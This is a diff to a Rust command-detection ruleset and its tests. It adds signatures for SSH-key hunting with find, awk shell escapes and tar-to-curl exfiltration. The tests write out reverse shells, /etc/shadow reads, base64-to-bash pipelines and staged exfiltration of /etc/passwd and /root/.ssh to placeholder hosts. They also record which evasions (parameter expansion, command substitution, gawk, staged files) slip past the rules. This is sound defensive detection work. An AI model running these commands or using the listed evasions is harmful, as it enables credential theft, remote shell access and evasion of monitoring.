@@ -168,6 +168,34 @@ pub fn default_rules() -> Vec<Rule> {
             ]),
         },
         Rule {
+            name: "find-secret-exec",
+            description: "find hunting for ssh keys with -exec (misses globbed \
+                          filenames like id_?sa)",
+            condition: All(vec![
+                CommandName("find".into()),
+                ArgGlob("*id_rsa*".into()),
+                FlagGlob("-exec".into()),
+            ]),
+        },
+        Rule {
+            name: "awk-system-shell",
+            description: "awk spawning a shell via system() (misses gawk/mawk)",
+            condition: All(vec![
+                CommandName("awk".into()),
+                RawContains("system(".into()),
+            ]),
+        },
+        Rule {
+            name: "tar-stream-exfil",
+            description: "tar streamed to stdout and piped into curl (keys on \
+                          the bare `-` stream words, so staged file-based \
+                          exfil chains evade it)",
+            condition: All(vec![
+                PipelineSequence(vec!["tar".into(), "curl".into()]),
+                WordGlob("-".into()),
+            ]),
+        },
+        Rule {
             name: "shadow-read",
             description: "direct read of credential files (misses archival exfil)",
             condition: All(vec![
@@ -281,6 +309,79 @@ mod tests {
     }
 
     #[test]
+    fn quote_splicing_caught_expansion_missed() {
+        // The rules run over the *parsed* script, so quote splicing does
+        // not hide the signature token...
+        // (the flag stays unquoted: flag matching requires unquoted words)
+        assert_eq!(matches_any("n'c' -lvnp 4444"), Some("nc-listen"));
+        assert_eq!(matches_any("ca''t /etc/shadow"), Some("shadow-read"));
+        assert_eq!(
+            matches_any("b\"a\"sh -i >& \"/dev/tcp/1.2.3.4/9001\" 0>&1"),
+            Some("dev-tcp-reverse-shell")
+        );
+        // ...but parameter expansion only resolves at execution time, so
+        // the resolved text still does not contain the signature.
+        assert_eq!(matches_any("${x:-n}c -lvnp 4444"), None);
+        assert_eq!(matches_any("${c:-cat} /etc/shadow"), None);
+        assert_eq!(
+            matches_any("bash -i >& /dev/${t:-tcp}/1.2.3.4/9001 0>&1"),
+            None
+        );
+    }
+
+    #[test]
+    fn decode_pipeline_caught_substitution_missed() {
+        assert_eq!(
+            matches_any("printf QUJD= | base64 -d | bash"),
+            Some("base64-pipe-shell")
+        );
+        // The decoder hidden inside $() never appears among the
+        // top-level pipeline base names.
+        assert_eq!(matches_any("eval $(echo QUJD= | base64 -d)"), None);
+        assert_eq!(matches_any("bash -c \"$(echo QUJD= | base64 -d)\""), None);
+    }
+
+    #[test]
+    fn lotl_signatures_caught_variants_missed() {
+        assert_eq!(
+            matches_any("find / -name id_rsa -exec cat {} \\;"),
+            Some("find-secret-exec")
+        );
+        assert_eq!(
+            matches_any("awk 'BEGIN{system(\"/bin/sh\")}'"),
+            Some("awk-system-shell")
+        );
+        assert_eq!(matches_any("find / -name 'id_?sa' -exec cat {} \\;"), None);
+        assert_eq!(matches_any("gawk 'BEGIN{system(\"/bin/sh\")}'"), None);
+        assert_eq!(
+            matches_any(
+                "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
+            ),
+            None
+        );
+    }
+
+    #[test]
+    fn streamed_exfil_caught_staged_missed() {
+        assert_eq!(
+            matches_any("tar czf - /etc/passwd | curl -T - ftp://h/up/"),
+            Some("tar-stream-exfil")
+        );
+        // Staged through a file: no bare `-` stream words.
+        assert_eq!(
+            matches_any(
+                "cd /tmp && tar czf .x.tgz /etc/passwd && curl -s -T .x.tgz https://h/drop && rm .x.tgz"
+            ),
+            None
+        );
+        assert_eq!(
+            matches_any("tar czf /tmp/.x.tgz /etc/passwd /root/.ssh"),
+            None
+        );
+        assert_eq!(matches_any("curl -s -T /tmp/.x.tgz https://h/drop"), None);
+    }
+
+    #[test]
     fn benign_lines_do_not_alert() {
         for line in [
             "ls -la /tmp",
@@ -292,6 +393,10 @@ mod tests {
             "echo \"deploy 7 done\"",
             "nc -z localhost 80",
             "python3 main.py --epochs 10",
+            "find /var/log -name \"*.log\"",
+            "awk '{print $1}' access.log",
+            "tar -czf backup.tar.gz /srv/app",
+            "tar -xzf release.tgz && ./install.sh",
         ] {
             assert_eq!(matches_any(line), None, "false positive on: {line}");
         }
